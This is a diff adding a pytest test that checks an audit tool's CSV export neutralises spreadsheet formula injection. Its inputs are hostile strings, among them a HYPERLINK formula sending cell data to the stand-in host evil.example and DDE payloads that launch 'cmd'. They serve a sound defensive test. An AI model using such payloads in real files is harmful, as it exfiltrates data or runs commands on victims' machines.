@@ -360,6 +360,39 @@ def test_query_csv(data: Dataset) -> None:
     assert parsed[0]["client"] == "192.0.2.8"
 
 
+@pytest.mark.parametrize(("detail", "sp"), [
+    pytest.param('=HYPERLINK("https://evil.example/?"&A1,"details")', SP_A, id="equals"),
+    pytest.param("+cmd|' /C calc'!A0", SP_A, id="plus"),
+    pytest.param("-2+3+cmd|' /C calc'!A0", SP_A, id="minus"),
+    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", SP_A, id="at"),
+    pytest.param("\t=1+1", SP_A, id="tab"),
+    pytest.param("\r=1+1", SP_A, id="carriage-return"),
+    pytest.param("a peer's text", "=1+1", id="formula-in-another-column"),
+])
+def test_query_csv_neutralises_formulas(config_dir: Path, detail: str, sp: str) -> None:
+    """A cell that starts with =, +, -, @, tab or CR is a formula to a spreadsheet (CSV injection): a detail
+    quoting a municipal IdP's StatusMessage, an SP's entityID. Each such cell is prefixed with ' and read as text;
+    jsonl keeps the value as recorded."""
+    audit = load_settings(config_dir).broker.audit
+    clock = FixedClock(DAY1)
+    writer = ChainWriter(ChainSettings(audit.directory.path, "cli", dt.timedelta(hours=1), 1 << 30,
+                                       dt.timedelta(days=30)), AuditSigner(audit.signing_key.key), clock,
+                         background=False)
+    trail = AuditTrail(writer, clock, pseudonym_key=audit.pseudonym_key.value, instance_id="cli")
+    trail.record(AuditEvent("error_response_issued", "failure", "C1", reason="upstream_failed", sp=sp,
+                            client_address="192.0.2.7", detail=detail, data={"status": "Responder"}))
+    trail.sync()
+    writer.close()
+    result = run("query", str(audit.directory.path), "--format", "csv")
+    assert result.exit_code == 0, result.output
+    (row,) = [dict(zip(COLUMNS, r, strict=True)) for r in list(csv.reader(io.StringIO(result.stdout)))[1:]]
+    assert row["detail"] == (f"'{detail}" if detail[0] in "=+-@\t\r" else detail)
+    assert row["sp"] == (f"'{sp}" if sp[0] == "=" else sp)
+    assert (row["correlation_id"], row["reason"]) == ("C1", "upstream_failed")
+    (recorded,) = query_jsonl(str(audit.directory.path))
+    assert (recorded["detail"], recorded["sp"]) == (detail, sp)
+
+
 def test_query_table(data: Dataset) -> None:
     result = run("query", str(data.directory), "--reason", "revoked")
     assert result.exit_code == 0, result.output
